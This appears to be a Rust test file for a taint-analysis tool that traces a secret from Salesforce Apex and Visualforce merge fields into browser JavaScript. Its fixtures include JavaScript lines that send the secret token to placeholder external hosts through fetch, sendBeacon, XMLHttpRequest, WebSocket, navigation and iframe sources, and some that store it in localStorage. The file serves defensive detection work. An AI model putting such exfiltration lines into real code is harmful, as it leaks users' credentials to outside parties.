//! The JavaScript interpreter against a spec of its own: `Secret.get()` in Apex and the merge
//! field `{!$Secret}` are the sources; a flow leaving the browser is `out`, one into browser
//! storage `kept`.

use super::*;
use crate::dataflow::tests::Got;
use crate::dataflow::{Call, Model, On, Source, SourceKind, Spec};

static SOURCES: &[Source] = &[Source {
    kind: SourceKind::Call(Call {
        on: On::Class(&["secret"]),
        method: "get",
    }),
    note: "secret read here",
}];

static SCRIPT: ScriptSpec = ScriptSpec {
    markers: |text| text.match_indices("$Secret").map(|(i, m)| i..i + m.len()).collect(),
    marker_hints: &["$secret"],
    marker_note: "secret merged into the script here",
    external: "out",
    exposed: "kept",
};

static SPEC: Spec = Spec {
    sources: SOURCES,
    source_hints: &["secret"],
    script: Some(&SCRIPT),
    ..Spec::PLAIN
};

const VAULT: (&str, &str) = (
    "force-app/main/default/classes/Vault.cls",
    "public with sharing class Vault {\n    @AuraEnabled\n    public static String token() {\n        return Secret.get();\n    }\n    @AuraEnabled\n    public static String label() {\n        return 'Vault';\n    }\n}\n",
);
const LWC: &str = "force-app/main/default/lwc/portal/portal.js";

fn run(files: &[(&str, &str)]) -> Vec<Got> {
    let project = crate::testing::in_memory(files);
    let model = Model::build(&project);
    let analysis = crate::dataflow::analyze(&project, &model, &SPEC);
    analysis
        .script_flows(&project, &SCRIPT)
        .iter()
        .map(|f| {
            Got::new(
                &project,
                f.category,
                (f.file, f.span.start),
                &f.path,
                f.endpoint.clone(),
            )
        })
        .collect()
}

/// An LWC module with `body` after an import of `Vault.token` as `token` (and of the clean
/// `Vault.label` as `label`).
fn lwc(body: &str) -> Vec<Got> {
    let text = format!(
        "import token from '@salesforce/apex/Vault.token';\nimport label from '@salesforce/apex/Vault.label';\n{body}\n"
    );
    run(&[VAULT, (LWC, &text)])
}

fn external(host: &str) -> Option<UrlClass> {
    Some(UrlClass::External(host.into()))
}

#[test]
fn an_apex_result_through_a_promise_to_fetch() {
    let got = lwc("token().then(t => {\n    fetch('https://collect.example.com/t?v=' + t);\n});");
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].category, "out");
    assert_eq!(got[0].at, "portal.js:4");
    assert_eq!(got[0].endpoint, external("collect.example.com"));
    assert_eq!(got[0].notes.first().map(String::as_str), Some("secret read here"));
    assert!(
        got[0]
            .notes
            .iter()
            .any(|n| n == "returned to JavaScript by Apex `Vault.token`"),
        "{:?}",
        got[0].notes
    );
    assert_eq!(got[0].notes.last().map(String::as_str), Some("stored in `t`"));
}

#[test]
fn a_method_that_returns_no_source_is_clean() {
    assert!(lwc("label().then(t => fetch('https://collect.example.com/?v=' + t));").is_empty());
}

#[test]
fn evaluation_carries_the_source_through_expressions() {
    let got = lwc(
        "async function go(flag) {\n    const a = await token();\n    const b = `x${a}`;\n    const c = flag ? b : 'none';\n    const d = JSON.stringify({ value: [c] });\n    localStorage.setItem('k', d);\n}",
    );
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].category, "kept");
    assert_eq!(got[0].at, "portal.js:8");
    assert_eq!(got[0].endpoint, None);
    let stored: Vec<&str> = got[0]
        .notes
        .iter()
        .filter_map(|n| n.strip_prefix("stored in "))
        .collect();
    assert_eq!(stored, ["`a`", "`b`", "`c`", "`d`"]);
}

#[test]
fn predicates_and_counts_are_clean() {
    let got = lwc(
        "async function go() {\n    const a = await token();\n    const i = a.indexOf('.');\n    const ok = a.includes('x') || a.startsWith('y');\n    fetch('https://collect.example.com/?n=' + i + ok);\n}",
    );
    assert!(got.is_empty(), "{got:?}");
}

#[test]
fn calls_bind_the_parameters_of_functions_defined_in_the_file() {
    let got = lwc(
        "function send(v) {\n    navigator.sendBeacon('https://beacon.example.org/b', v);\n}\ntoken().then(t => send(t));",
    );
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].at, "portal.js:4");
    assert_eq!(got[0].endpoint, external("beacon.example.org"));
    assert!(
        got[0].notes.iter().any(|n| n == "passed to `send`"),
        "{:?}",
        got[0].notes
    );
}

#[test]
fn a_request_object_remembers_its_url() {
    let got = lwc(
        "async function go() {\n    const t = await token();\n    const x = new XMLHttpRequest();\n    x.open('POST', 'https://api.example.net/in');\n    x.setRequestHeader('X-Token', t);\n    x.send();\n}",
    );
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].at, "portal.js:8");
    assert_eq!(got[0].endpoint, external("api.example.net"));
    // Without `open` in the file, where it goes is unknown and said so.
    let got = lwc("async function go(x) {\n    x.send(await token());\n}");
    assert_eq!(got.len(), 1, "{got:?}");
    assert!(
        matches!(&got[0].endpoint, Some(UrlClass::Unknown(why)) if why.contains("`x` has no URL")),
        "{got:?}"
    );
}

#[test]
fn navigation_and_connections_are_sinks_and_same_origin_is_told_apart() {
    let got = lwc(
        "async function go() {\n    const t = await token();\n    window.open('/apex/Next?t=' + t);\n    new WebSocket('wss://socket.example.io/s?t=' + t);\n    window.location.assign(`https://jump.example.com/?t=${t}`);\n}",
    );
    let summary: Vec<(&str, Option<UrlClass>)> = got.iter().map(|g| (g.at.as_str(), g.endpoint.clone())).collect();
    assert_eq!(
        summary,
        [
            ("portal.js:5", Some(UrlClass::SameOrg)),
            ("portal.js:6", external("socket.example.io")),
            ("portal.js:7", external("jump.example.com")),
        ]
    );
}

#[test]
fn visualforce_scripts_and_handlers_start_at_the_merge_field() {
    let page = "<apex:page>\n<script>\n    var s = '{!$Secret}';\n    window.open('https://out.example.com/?s=' + s);\n</script>\n<button onclick=\"fetch('https://h.example.com/?s={!$Secret}')\">Go</button>\n<script src=\"/x.js\"/>\n<script>var clean = 1; window.open('https://out.example.com/');</script>\n</apex:page>\n";
    let got = run(&[("force-app/main/default/pages/P.page", page)]);
    let at: Vec<&str> = got.iter().map(|g| g.at.as_str()).collect();
    assert_eq!(at, ["P.page:4", "P.page:6"], "{got:?}");
    assert_eq!(got[0].notes, ["secret merged into the script here", "stored in `s`"]);
    assert_eq!(got[1].endpoint, external("h.example.com"));
}

#[test]
fn aura_actions_reach_the_bundle_markup() {
    let controller = "({\n    load: function (cmp) {\n        var action = cmp.get('c.token');\n        action.setCallback(this, function (response) {\n            cmp.set('v.frame', 'https://frame.example.com/?t=' + response.getReturnValue());\n        });\n        $A.enqueueAction(action);\n    }\n})\n";
    let markup = "<aura:component controller=\"Vault\">\n    <aura:attribute name=\"frame\" type=\"String\"/>\n    <iframe src=\"{!v.frame}\"/>\n</aura:component>\n";
    let got = run(&[
        VAULT,
        ("force-app/main/default/aura/Widget/Widget.cmp", markup),
        ("force-app/main/default/aura/Widget/WidgetController.js", controller),
    ]);
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].at, "WidgetController.js:5");
    assert_eq!(got[0].endpoint, external("frame.example.com"));
    assert_eq!(
        got[0].notes.last().map(String::as_str),
        Some("rendered into the `src` of `<iframe>`")
    );
}

#[test]
fn test_folders_are_skipped_and_deep_scripts_are_reported() {
    let body = "token().then(t => fetch('https://collect.example.com/?v=' + t));\n";
    let text = format!("import token from '@salesforce/apex/Vault.token';\n{body}");
    assert!(
        run(&[
            VAULT,
            ("force-app/main/default/lwc/portal/__tests__/portal.test.js", &text)
        ])
        .is_empty()
    );
    let deep = format!(
        "import token from '@salesforce/apex/Vault.token';\nconst x = {}1{};\n",
        "[".repeat(crate::syntax::tree::MAX_DEPTH + 10),
        "]".repeat(crate::syntax::tree::MAX_DEPTH + 10)
    );
    let got = run(&[VAULT, (LWC, &deep)]);
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].category, TOO_DEEP);
}
